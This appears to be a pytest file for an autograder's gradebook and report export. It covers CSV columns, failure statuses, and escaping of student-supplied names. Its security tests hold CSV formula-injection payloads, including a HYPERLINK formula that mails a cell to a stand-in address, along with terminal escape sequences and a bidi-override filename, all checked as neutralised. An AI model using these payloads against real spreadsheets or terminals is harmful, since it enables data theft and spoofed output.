"""The gradebook (``grades.csv``): its columns, and what its status and problems cells say
when boards crashed, timed out or could not be read."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

from autograder import load_assignment
from autograder._batch import grade_folder
from autograder._exports import lms_warnings
from autograder._manifest import load_manifest
from autograder._plain import cell, printable
from autograder._reports import (
    Tally,
    feedback_text,
    gradebook_status,
    gradebook_text,
    mistakes_text,
    summary_text,
    write_reports,
)
from autograder._results import SubmissionResult
from autograder._results import TestResult as BoardResult  # (not collected as a test)
from reference_solutions import ReferenceAnswers, answer_key, reference_program
from tests.autograder.test_impersonation import corpus, put
from tests.grading import public_board

ANSWERS = ReferenceAnswers()


def board(name: str, status: str, score: float = 0.0) -> BoardResult:
    return BoardResult(name, f"board {name}", score, 10.0, name == "public", status)  # type: ignore[arg-type]


def graded(student: str, *tests: BoardResult, problems: tuple[str, ...] = ()) -> SubmissionResult:
    score = sum(t.score for t in tests)
    return SubmissionResult(student, f"subs/{student}.py", "classic", score, 10.0 * len(tests),
                            "graded", tests, problems, isolation="namespace")  # fmt: skip


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_board_run_and_read_is_graded_whatever_the_marks():
    result = graded("ann", board("public", "passed", 10), board("hidden-1", "partial", 4),
                    board("hidden-2", "wrong"))  # fmt: skip
    assert gradebook_status(result) == ("graded", [])
    (row,) = rows(gradebook_text([result]))
    assert row["status"] == "graded" and row["problems"] == ""


def test_each_way_a_board_failed_is_in_the_status_and_its_boards_in_the_problems():
    result = graded(
        "bob",
        board("public", "crashed"),
        board("no-jumps", "unreadable"),
        board("hidden-1", "passed", 10),
        board("hidden-2", "crashed"),
        board("hidden-3", "timeout"),
        board("hidden-4", "output-limit"),
        board("hidden-5", "timeout"),
        board("hidden-6", "not-run"),
        problems=("ran an old attempt",),
    )
    status, problems = gradebook_status(result)
    # A fixed order, whatever the boards' order, so a spreadsheet can filter on it.
    assert status == "crashed+timeout+output-limit+unreadable+not-run"
    assert problems == [
        "ran an old attempt",
        "crashed on public, hidden-2",
        "timed out on hidden-3, hidden-5",
        "printed too much on hidden-4",
        "unreadable output on no-jumps",
        "not run on hidden-6",
    ]
    (row,) = rows(gradebook_text([result]))
    assert row["status"] == status
    assert row["problems"] == "; ".join(problems)  # one cell


def test_one_kind_of_failure_is_named_alone():
    result = graded("cy", board("public", "passed", 10), board("hidden-1", "timeout"))
    assert gradebook_status(result) == ("timeout", ["timed out on hidden-1"])
    result = graded("cy", board("public", "unreadable"), board("hidden-1", "unreadable"))
    assert gradebook_status(result) == ("unreadable", ["unreadable output on public, hidden-1"])


def test_a_submission_that_could_not_be_run_stays_an_error_with_its_problem():
    result = SubmissionResult.failed("dee", "subs/dee.ipynb", "classic", 25.0, "a notebook")
    assert gradebook_status(result) == ("error", ["a notebook"])
    (row,) = rows(gradebook_text([result]))
    assert (row["status"], row["problems"], row["score"]) == ("error", "a notebook", "0.00")


def test_the_columns_stay_in_their_order_and_rows_end_with_crlf():
    results = [
        graded("zed", board("public", "crashed"), board("hidden-1", "passed", 10)),
        graded("amy", board("public", "passed", 10), board("hidden-1", "passed", 10)),
        SubmissionResult.failed("kim", "subs/kim", "classic", 20.0, 'odd; "quoted", two\nlines'),
    ]
    text = gradebook_text(results)
    header = "student,score,max_score,status,public,hidden-1,problems,isolation,name,late\r\n"
    assert text.startswith(header)
    assert text.count("\r\n") == 4  # the header and three rows (a cell's own newline is kept)
    table = rows(text)
    assert [r["student"] for r in table] == ["amy", "kim", "zed"]
    assert [r["status"] for r in table] == ["graded", "error", "crashed"]
    assert table[1]["problems"] == 'odd; "quoted", two\nlines'
    assert table[2] == {"student": "zed", "score": "10.00", "max_score": "20", "status": "crashed",
                        "public": "0.00", "hidden-1": "10.00", "problems": "crashed on public",
                        "isolation": "namespace", "name": "", "late": ""}  # fmt: skip


# --- the real flow: programs that crash, never end or print nothing -------------------------

# Only the public board's file has a name.
CRASH_OFF_THE_PUBLIC_BOARD = """
import json, sys
if "name" not in json.load(open(sys.argv[1])):
    raise SystemExit(3)
"""


def test_grades_csv_says_which_boards_crashed_timed_out_or_could_not_be_read(tmp_path: Path):
    folder = tmp_path / "subs"
    folder.mkdir()
    program = reference_program("classic")
    (folder / "good.py").write_text(program)
    (folder / "fragile.py").write_text(CRASH_OFF_THE_PUBLIC_BOARD + program)
    (folder / "silent.py").write_text("pass\n")
    (folder / "endless.py").write_text("while True:\n    pass\n")
    (folder / "notes.ipynb").write_text("{}")
    # Time enough for the honest programs on a busy machine (endless is graded at the same
    # time), and a CPU limit that stops endless in half of it: the honest need a twentieth of
    # a CPU second, and CPU time does not stretch on a busy machine as the clock does.
    limits = dataclasses.replace(load_assignment("classic").limits.with_timeout(2.0), cpu=1.0)
    cases = answer_key("classic")
    names = [c.name for c in cases]
    grade_folder("classic", folder, tmp_path / "out", answers=ANSWERS, cases=cases,
                 limits=limits, workers=2)  # fmt: skip
    with open(tmp_path / "out" / "grades.csv", newline="") as file:
        table = {r["student"]: r for r in csv.DictReader(file)}
    assert list(next(iter(table.values()))) == [
        "student", "score", "max_score", "status", *names, "problems", "isolation", "name",
        "late",
    ]  # fmt: skip
    assert (table["good"]["status"], table["good"]["problems"]) == ("graded", "")
    assert table["fragile"]["status"] == "crashed"
    assert table["fragile"]["problems"] == f"crashed on {', '.join(names[1:])}"
    assert table["fragile"]["public"] == "25.00"
    assert table["silent"]["status"] == "unreadable"
    assert table["silent"]["problems"] == f"unreadable output on {', '.join(names)}"
    # Two timeouts, then the remaining boards are not run.
    assert table["endless"]["status"] == "timeout+not-run"
    assert table["endless"]["problems"] == (
        f"timed out on {', '.join(names[:2])}; not run on {', '.join(names[2:])}"
    )
    assert table["notes"]["status"] == "error" and "notebook" in table["notes"]["problems"]


# --- what students choose in a name: formulas and escapes ---------------------------------


def test_printable_escapes_what_a_terminal_acts_on_and_nothing_else():
    assert printable("\x1b]0;pwned\x07") == "\\x1b]0;pwned\\x07"
    assert printable("a\rb\nc\x9b31m\x7f") == "a\\rb\\nc\\x9b31m\\x7f"
    assert printable("\u202eyp.txt\u2066") == "\\u202eyp.txt\\u2066"
    assert printable("not utf-8 \udcff") == "not utf-8 \\udcff"
    kept = "Jos\u00e9 \u00c5berg\t\u00e9l\u00e8ve \u5b66\u751f \U0001f600 \\x1b"
    assert printable(kept) == kept


def test_cell_puts_a_quote_before_a_formula_and_leaves_other_text():
    for text in ("=1+1", "+1+1", "-2", "@SUM(A1)", "\t=1", " =1", "\n=1", "\uff1d1"):
        assert cell(text).startswith("'"), text
    assert cell("\r=1") == "\\r=1"  # escaped, so no longer a formula
    for text in ("ann", "2.5", "a=1", "graded", "", "Jos\u00e9"):
        assert cell(text) == text
    assert cell("=x\x1b[2J") == "'=x\\x1b[2J"
    assert cell("two\nlines\r") == "two\nlines\\r"  # a cell may hold lines, not a return


def test_formula_names_from_files_stay_text_in_grades_csv(tmp_path: Path):
    program, names = corpus("sheet_formulas")
    folder = tmp_path / "subs"
    folder.mkdir()
    for name in names:
        put(folder, name, program)
    (folder / "ann.py").write_text(reference_program("classic"))
    batch = grade_folder("classic", folder, tmp_path / "out", answers=ANSWERS,
                         cases=public_board("classic"), isolation="process",
                         workers=2)  # fmt: skip
    assert {r.student for r in batch.results} >= {v for v in names.values() if v}
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))
    assert len(table) == len(names) + 1
    for row in table:
        for key in ("student", "problems", "status"):
            assert not row[key].lstrip().startswith(("=", "+", "-", "@", "\t")), row
        for key in ("score", "max_score", "public")[: 2 if row["status"] == "error" else 3]:
            float(row[key])  # a number, as the grader wrote it
    students = {row["student"] for row in table}
    assert {f"'{v}" for v in names.values() if v} | {"ann"} <= students
    (refused,) = [row for row in table if row["status"] == "error"]
    assert refused["problems"].startswith("'=1+1_22222_assignsubmission_file_x_111")
    assert next(r for r in table if r["student"] == "ann")["score"] == "25.00"


def test_formula_ids_from_a_manifest_stay_text_in_grades_csv(tmp_path: Path):
    board = {"goal": 30, "jumps": [[3, 12], [17, 5]]}
    ids = ["-2", "@SUM(A1)", '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")']
    manifest = tmp_path / "manifest.json"
    students = [{"id": i, "board": board} for i in [*ids, "+1+1"]]
    manifest.write_text(json.dumps({"format": 1, "assignment": "classic", "students": students}))
    folder = tmp_path / "subs"
    folder.mkdir()
    for student in ids:
        (folder / f"{student}.py").write_text(reference_program("classic"))
    (folder / "=cmd.py").write_text("print(1)\n")  # matches no one: an error row
    batch = grade_folder("classic", folder, tmp_path / "out", answers=ANSWERS,
                         cases=public_board("classic"), isolation="process",
                         manifest=load_manifest(manifest, "classic"))  # fmt: skip
    assert sorted(r.student for r in batch.results if r.status == "graded") == sorted(ids)
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as file:
        table = {row["student"]: row for row in csv.DictReader(file)}
    assert set(table) == {f"'{i}" for i in [*ids, "=cmd"]}
    for student in ids:
        assert table[f"'{student}"]["score"] == "25.00"
    assert table["'=cmd"]["problems"].startswith("'=cmd.py: matches no student")


def test_mistakes_csv_text_cells_are_safe_and_its_counts_numbers():
    rows = [Tally("mistake", "", "=cmd", 2, 5, 3, "@SUM(A1)\x1b[2J"),
            Tally("entry", "-board", "+square 1", 1, 4)]  # fmt: skip
    table = list(csv.reader(io.StringIO(mistakes_text(rows), newline="")))
    assert table[1] == ["mistake", "", "'=cmd", "2", "5", "3", "'@SUM(A1)\\x1b[2J"]
    assert table[2] == ["entry", "'-board", "'+square 1", "1", "4", "", ""]


def test_summary_and_feedback_show_names_escaped():
    result = SubmissionResult.failed("\x1b]0;x\x07", "subs/\x1b]0;x\x07.py", "classic", 25.0,
                                     "\x1b]0;x\x07.py: \x1b[2J\rscore 100")  # fmt: skip
    notes = ["skipped HW_\x1b[8m_attempt_2026-01-01-00-00-00.txt: a receipt", "a\nnote: forged"]
    summary = summary_text([result], notes)
    assert "\x1b" not in summary and "\r" not in summary
    assert "note: skipped HW_\\x1b[8m_attempt" in summary
    assert "note: a\\nnote: forged" in summary  # one note stays one line
    feedback = feedback_text(result, "Classic")
    assert "\x1b" not in feedback and "\r" not in feedback
    assert "student: \\x1b]0;x\\x07" in feedback and "\\x1b[2J\\rscore 100" in feedback


def test_reports_are_written_for_a_name_that_is_not_utf8(tmp_path: Path):
    # A file name with a byte that is not UTF-8 arrives as a lone surrogate, which no
    # strict encoder writes: the gradebook and the feedback must be written all the same.
    result = SubmissionResult.failed("a\udcff", "subs/a\udcff.py", "classic", 25.0, "a\udcff")
    notes = write_reports(tmp_path, [result])
    # Nothing failed to be written; the id is no LMS's, which the LMS gradebooks say.
    assert notes == lms_warnings(notes) and len(notes) == 2
    grades = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert "a\\udcff" in grades
    (feedback,) = (tmp_path / "feedback").iterdir()
    assert "student: a\\udcff" in feedback.read_text(encoding="utf-8")
